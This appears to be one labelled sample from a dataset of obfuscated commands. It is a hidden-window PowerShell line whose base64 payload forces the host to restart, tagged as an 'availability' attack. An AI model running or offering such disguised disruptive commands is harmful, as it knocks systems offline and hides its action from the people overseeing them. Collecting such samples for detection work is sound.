# description: Restarts the host through a base64 -EncodedCommand.
# family: availability
# obfuscated: yes
powershell -nop -w hidden -enc UgBlAHMAdABhAHIAdAAtAEMAbwBtAHAAdQB0AGUAcgAgAC0ARgBvAHIAYwBlAA==
